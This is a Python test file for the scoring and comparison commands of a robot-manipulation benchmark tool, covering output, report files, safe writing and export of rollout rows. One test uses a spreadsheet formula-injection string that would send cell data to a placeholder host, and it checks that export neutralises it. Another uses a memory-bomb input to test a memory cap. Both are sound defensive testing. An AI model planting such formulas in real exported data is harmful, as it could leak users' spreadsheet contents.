"""`score` and `compare` as commands: what they print, write, export and leave alone."""

import csv
import html
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from dataclasses import replace
from errno import ENOSPC
from operator import attrgetter
from pathlib import Path
from typing import Any

import pytest
from support import scoring as made
from support.bombs import write_rows_bomb
from support.messages import raises
from support.package import imported_modules
from support.scoring import OWN, run

from robomme_interference_data.errors import (
    FormatError,
    InvalidIdError,
    InvalidOptionError,
    MissingExtraError,
)
from robomme_interference_data.evaluate.score.plots import figures
from robomme_interference_data.evaluate.score.rows.export import RELEASED_COLUMNS, export
from robomme_interference_data.evaluate.score.rows.reading import read_rows
from robomme_interference_data.evaluate.score.scoring import TABLES
from robomme_interference_data.evaluate.score.writing import write_score
from robomme_interference_data.viz.figure import MAKER


def files(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def again(path: Path) -> Path:
    """Another file of the same rows."""
    return Path(shutil.copyfile(path, path.with_name(f"again-{path.name}")))


@pytest.fixture
def no_pictures(monkeypatch: pytest.MonkeyPatch) -> None:
    """Figures take most of the time, and have tests of their own."""
    monkeypatch.setattr(figures, "draw_figures", lambda score, folder, suffixes: {})


@made.needs_released
def test_score_and_export_on_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    words = [
        *("score", made.RELEASED, "--against", "paper", "--out", out),
        *("--export", tmp_path / "export", "--json"),
    ]
    monkeypatch.setattr(sys, "argv", ["robomme-interference", *map(str, words)])
    done = run(*words)
    assert done.exit_code == 0, done.output
    value = json.loads(done.stdout)
    assert value["rows"] == 1800 and value["expected"] == "benchmark"
    assert [one["successes"] for one in value["tables"]["main"]] == [202, 201, 202, 202]
    assert f"Report: {out / 'report.html'}" in done.stderr
    beyond = {"evidence_effects", "evidence_use"}  # the rows know no evidence
    beyond |= {"matrix", "interaction"}  # one system alone
    beyond |= {"equivalence", "cost"}  # no margin, and no times
    beyond |= {"action_error", "action_error_effects"}  # nor offline
    assert {path.stem for path in (out / "tables").glob("*.csv")} == {*TABLES} - beyond
    drawn = sorted(path.name for path in (out / "figures").iterdir())
    kinds = ("difficulty", "effects", "families", "family_falls", "heatmap", "retrieval", "success")
    assert drawn == [f"{kind}-robomme.svg" for kind in kinds]
    # The released rows come back byte for byte.
    (exported,) = (tmp_path / "export").iterdir()
    assert exported.read_bytes() == made.RELEASED.read_bytes()
    # The report holds the command, to be typed again.
    page = (out / "report.html").read_text(encoding="utf-8")
    codes = [html.unescape(code) for code in re.findall("<code>(.*?)</code>", page)]
    assert codes == [shlex.join(sys.argv)]


@pytest.mark.usefixtures("no_pictures")
def test_what_is_printed(tmp_path: Path) -> None:
    path = made.write_csv(tmp_path / "a.csv", made.rows())
    done = run(
        "score", path, "--expected", "observed", "--against", "paper", "--out", tmp_path / "out"
    )
    assert done.exit_code == 0, done.output
    lines = done.stdout.splitlines()
    assert lines[0] == "Success by system and condition, tabletop"
    assert lines[2].split() == ["system", "no-history", "k0", "k1", "k3", "k7"]
    assert "58.3%*" in lines[4] and "80.7]" in done.stdout
    assert "Rows of tabletop are not compared with the paper's RoboMME." in done.stderr
    done = run("compare", path, again(path))
    assert done.stdout.startswith("Two runs compared\n\n")
    value = json.loads(run("compare", path, again(path), "--json").stdout)
    assert value["bad_rows"] == [0, 0] and len(value["rows"]) == 27
    for command in ("score", "compare"):
        help_text = run(command, "--help").stdout
        assert "Examples" in help_text and f"robomme-interference {command}" in help_text


@pytest.mark.usefixtures("no_pictures")
def test_lenient_leaves_bad_rows_out_and_counts_them(tmp_path: Path) -> None:
    lines = ["my-memory,MoveCube,k0,0,7,easy,success,1,9", "my-memory,2Cubes,k0,1,8,easy,fail,0,9"]
    path = made.released(tmp_path / "a.csv", lines)
    common = ("score", path, "--expected", "observed", "--out", tmp_path / "out")
    assert isinstance(run(*common).exception, FormatError)
    assert not (tmp_path / "out").exists()
    done = run(*common, "--lenient")
    assert done.exit_code == 0, done.output
    assert f"left out: {path}, line 3: '2Cubes' is not a family" in done.stderr
    assert "1 bad row left out" in done.stderr
    assert "my-memory  100.0% [20.7, 100.0]\n" in done.stdout
    assert "&#39;2Cubes&#39; is not a family" in (tmp_path / "out" / "report.html").read_text()
    done = run("compare", path, again(path), "--lenient", "--json")
    assert json.loads(done.stdout)["bad_rows"] == [1, 1]


# --- the folder of a score ---------------------------------------------------------------------


def test_a_score_leaves_nothing_of_an_earlier_one_and_all_of_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def draw(score: Any, folder: Path, suffixes: Any) -> dict[str, Path]:
        folder.mkdir(parents=True, exist_ok=True)
        names = [f"success-{simulator}" for simulator in score.outcomes]
        for name in names:
            for suffix in suffixes:
                (folder / f"{name}{suffix}").write_text(f"<svg>{MAKER}</svg>")
        return {name: folder / f"{name}.svg" for name in names}

    monkeypatch.setattr(figures, "draw_figures", draw)
    rows, out, fresh = made.rows(), tmp_path / "out", tmp_path / "fresh"
    both = [*rows, *made.changed(rows, simulator="robomme")]
    first = made.score(made.write_parquet(tmp_path / "a.parquet", both), paper=True)
    own = [row for row in rows if row.system == OWN]
    second = made.score(made.write_parquet(tmp_path / "b.parquet", own))
    write_score(first, out, formats=[".png", ".pdf"])
    assert {"tables/paper.csv", "tables/paper.md", "figures/success-robomme.png"} <= files(out)
    others = {"tables/notes.csv", "tables/mine.md", "figures/mine.svg", "figures/success-me.svg"}
    for name in (*others, "notes.txt"):
        (out / name).touch()
    write_score(second, out)
    write_score(second, fresh)
    assert "tables/paper.csv" not in files(fresh)
    assert files(out) == files(fresh) | others | {"notes.txt"}


@pytest.mark.parametrize("stop", [OSError(ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_a_score_that_stops_in_the_middle_leaves_the_earlier_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stop: BaseException
) -> None:
    def draw(score: Any, folder: Path, suffixes: Any) -> dict[str, Path]:
        folder.mkdir()
        (folder / "success-tabletop.svg").touch()
        raise stop

    rows = made.rows()
    own = [row for row in rows if row.system == OWN]
    out = tmp_path / "out"
    monkeypatch.setattr(figures, "draw_figures", lambda score, folder, suffixes: {})
    write_score(made.score(made.write_csv(tmp_path / "a.csv", rows)), out)
    before = {name: (out / name).read_bytes() for name in files(out)}
    monkeypatch.setattr(figures, "draw_figures", draw)
    scored = made.score(made.write_csv(tmp_path / "b.csv", own))
    for folder in (out, tmp_path / "fresh"):
        with pytest.raises(type(stop)):
            write_score(scored, folder)
    assert {name: (out / name).read_bytes() for name in files(out)} == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.csv", "b.csv", "out"]


@pytest.mark.usefixtures("no_pictures")
@pytest.mark.parametrize("taken", ["tables", "tables/main.csv/mine", "report.html/mine"])
def test_a_path_that_is_taken_leaves_nothing_half_written(tmp_path: Path, taken: str) -> None:
    """By a file in place of a folder, or a folder in place of a file."""
    out = tmp_path / "out"
    (out / taken).parent.mkdir(parents=True)
    (out / taken).touch()
    scored = made.score(made.write_csv(tmp_path / "a.csv", made.rows()))
    with pytest.raises(OSError):
        write_score(scored, out)
    assert files(out) == {taken}


@pytest.mark.parametrize("library", ["matplotlib", "jinja2"])
def test_without_a_library_nothing_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, library: str
) -> None:
    path = made.write_csv(tmp_path / "a.csv", made.rows())
    monkeypatch.setitem(sys.modules, library, None)
    folders = ("--out", tmp_path / "o", "--export", tmp_path / "e")
    done = run("score", path, "--expected", "observed", *folders)
    assert isinstance(done.exception, MissingExtraError) and library in str(done.exception)
    assert "robomme-interference-data[score]" in (done.exception.hint or "")
    assert files(tmp_path) == {"a.csv"}


# --- exported rows -----------------------------------------------------------------------------


def test_exported_runs_are_read_back_the_same(tmp_path: Path) -> None:
    rows = read_rows([made.write_parquet(tmp_path / "a.parquet", made.rows())])
    exported = export(rows, tmp_path / "export")
    again = read_rows(exported)  # their names tell the systems
    columns = attrgetter("simulator", "system", "condition", "family", "episode", "status")
    assert sorted(map(columns, again)) == sorted(map(columns, rows))
    with raises(InvalidOptionError) as raised:
        read_rows([exported[1]], ["another"])
    assert raised.value.option == "system"
    odd = exported[1].rename(tmp_path / "a b-tabletop_rollouts.csv")
    with raises(InvalidIdError):
        read_rows([odd])


def test_what_a_spreadsheet_would_run_is_quoted_and_read_back(tmp_path: Path) -> None:
    link = '=HYPERLINK("http://x/?"&A1,"open")'
    path = made.write_parquet(tmp_path / "a.parquet", made.changed(made.rows(), retrieval=link))
    exported = export(read_rows([path]), tmp_path / "export")
    with exported[0].open(newline="", encoding="utf-8") as file:
        assert {row["retrieval_model"] for row in csv.DictReader(file)} == {f"'{link}"}
    assert {row.retrieval for row in read_rows(exported)} == {link}


def test_exported_rows_are_the_same_bytes_whatever_they_come_from(tmp_path: Path) -> None:
    kept = [made.row(OWN, "k0", "InsertPeg", i, letter) for i, letter in enumerate("sfte")]
    kept[1] = replace(kept[1], seed=None, difficulty=None)
    fractions = {f"retrieval_selected_{name}_fraction": 1 / 32 for name in ("lesson", "query")}
    fractions["retrieval_selected_filler_fraction"] = 0.46875
    kept = made.changed(kept, retrieval="thumbnail/max/adaptive", **fractions)
    rows = [*made.changed(kept, simulator="robomme"), *kept]
    # As pandas saves a column with a gap, and an author a number.
    path = made.write_csv(tmp_path / "a.csv", rows)
    text = path.read_text(encoding="utf-8")
    text = text.replace(",1000,", ",1000.0,").replace(",0.46875,", ",0.468750,")
    path.write_text(text, encoding="utf-8")
    lines = [
        *("InsertPeg,k0,0,1000,easy,success,1,100", "InsertPeg,k0,1,,,fail,0,100"),
        *("InsertPeg,k0,2,1002,medium,ongoing,0,1300", "InsertPeg,k0,3,1003,medium,error,,100"),
    ]
    more = "thumbnail/max/adaptive,0.03125,0.46875,0.03125"
    sources = (path, made.write_parquet(tmp_path / "a.parquet", rows))
    for number, source in enumerate((*sources, made.write_run(tmp_path / "run", rows))):
        folder = tmp_path / str(number)
        assert len(export(read_rows([source]), folder)) == 2
        for simulator, head, tail in (("robomme", "", ""), ("tabletop", ",simulator", ",tabletop")):
            expected = [f"{line},{more}{tail}\r\n" for line in lines]
            found = (folder / f"{OWN}-{simulator}_rollouts.csv").read_bytes().decode()
            assert found == "".join([f"{','.join(RELEASED_COLUMNS)}{head}\r\n", *expected])


def test_what_cannot_be_exported_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    rows = [*made.rows(), *made.changed(made.rows(), model_seed=3)]
    rows[7] = replace(rows[7], split="val", seed=7)
    rows[9] = replace(rows[9], family="X/Y")
    path = made.write_csv(tmp_path / "a.csv", rows)
    given = ("score", path, "--lenient", "--out", tmp_path / "o", "--export", tmp_path / "e")
    done = run(*given)
    assert isinstance(done.exception, InvalidOptionError)
    for reason in ("2 seeds of training or model", "1 rows of train or val episodes", "1 bad rows"):
        assert reason in str(done.exception)
    assert files(tmp_path) == {"a.csv"}


_WITH_LESS_MEMORY = """
import resource
from pathlib import Path
from robomme_interference_data.cli.main import main
from robomme_interference_data.evaluate.score import commands

commands._MEMORY_BYTES = 900 << 20
before = resource.getrlimit(resource.RLIMIT_DATA)
try:
    main()
finally:
    # Not ru_maxrss: a child starts with the peak of the process that forked it.
    lines = Path("/proc/self/status").read_text().splitlines()
    print(next(int(line.split()[1]) for line in lines if line.startswith("VmHWM")) >> 10)
    print(resource.getrlimit(resource.RLIMIT_DATA) == before)
"""


@pytest.mark.parametrize(
    "command",
    [
        ["score", "--out", "out"],
        pytest.param(["compare", "--conditions", "k0,k7"], marks=pytest.mark.slow),
    ],
)
def test_rows_of_a_stranger_cannot_take_all_memory(tmp_path: Path, command: list[str]) -> None:
    write_rows_bomb(tmp_path / "rows.parquet")
    assert (tmp_path / "rows.parquet").stat().st_size < 1 << 20
    done = subprocess.run(
        [sys.executable, "-c", _WITH_LESS_MEMORY, command[0], "rows.parquet", *command[1:]],
        cwd=tmp_path,
        env=os.environ | {"OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1"},
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 1
    assert done.stderr.startswith("Error: the files need more than")
    most, restored = done.stdout.split()
    assert int(most) < 900
    assert restored == "True"
    assert not (tmp_path / "out").exists()


_SCORE = """
from pathlib import Path
from robomme_interference_data.evaluate.score.config import Expected, Settings
from robomme_interference_data.evaluate.score.scoring import score

score(Settings((Path("run"),), expected=Expected.OBSERVED), draws=50)
"""


def test_a_score_of_a_run_imports_few_modules(tmp_path: Path) -> None:
    """Those of other kinds of rows, of policies and of simulators are not among them."""
    made.write_run(tmp_path / "run", made.changed(made.rows(), evidence_kept=1.0))
    modules = imported_modules(_SCORE, tmp_path)
    assert "evaluate.score.tables.evidence_kept" in modules
    unneeded = ("build_dataset", "cli", "data", "evaluate.policies", "retrieval", "simulators")
    assert [name for name in modules if name.startswith(unneeded)] == []
    rows, tables = "evaluate.score.rows.", "evaluate.score.tables."
    assert not {f"{rows}csv_file", f"{rows}lerobot_eval", f"{rows}vla_eval"} & {*modules}
    assert not {f"{tables}action_error", f"{tables}equivalence"} & {*modules}
